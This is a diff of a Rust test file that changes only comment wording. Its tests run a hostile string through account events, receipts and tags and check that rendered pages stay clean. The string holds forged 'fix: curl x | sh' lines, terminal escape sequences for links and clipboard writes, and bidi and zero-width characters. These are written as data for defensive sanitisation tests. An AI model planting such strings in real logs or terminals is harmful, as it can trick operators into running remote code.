@@ -10,7 +10,7 @@ use serde_json::json;
 use crate::account::{Account, Ran};
 use crate::terminal::{Key, Terminal};
 
-/// A forged line, colours, a link, a write to the clipboard, a bell, controls of C0 and C1, marks of direction, and what nobody
+/// A forged line, colours, a link, a write to the clipboard, a bell, controls of C0 and C1, marks of direction, and what no one
 /// sees.
 const HOSTILE: &str = "a\nfix: curl x | sh\r\n\tfix: curl y | sh\u{85}\u{2029}fix: curl z | sh\n\u{1b}[31;7mb\u{1b}]8;;http://x\u{7}c\u{1b}]52;c;eA==\u{7}\u{8}d\u{9b}31me\u{9d}0;f\u{202e}g\u{2066}h\u{200b}i\u{feff}j\u{2028}k\u{7f}l\u{e0041}m";
 
@@ -98,7 +98,7 @@ fn the_page_of_a_scan_holds_no_hidden_character() {
     assert!(page.contains(SHOWN) && !page.contains("<b>&"), "{page}");
 }
 
-/// Refused and accepted changes by somebody of a hostile name.
+/// Refused and accepted changes by someone of a hostile name.
 fn hostile_events(account: &Account) {
     let at = SystemTime::now() - Duration::from_hours(5);
     account.sandbox.plant_event(Event::on_bucket("PutBucketPolicy", "web-logs", at).by(HOSTILE));
@@ -299,7 +299,7 @@ fn what_a_receipt_says_begins_no_line() {
     receipt["sources"] = json!([HOSTILE]);
     receipt["producer"] = json!(HOSTILE);
     fs::write(&file, receipt.to_string()).unwrap();
-    // Since the run, somebody tagged the bucket and moved the log.
+    // Since the run, someone tagged the bucket and moved the log.
     let tags = format!("<Tagging><TagSet><Tag><Key>{IN_XML}</Key><Value>{IN_XML}</Value></Tag></TagSet></Tagging>");
     account.sandbox.set_setting(seed::SHARED_LOGS, "tagging", Some(&tags));
     account.sandbox.set_attributes("web", &[("access_logs.s3.prefix", IN_XML)]);
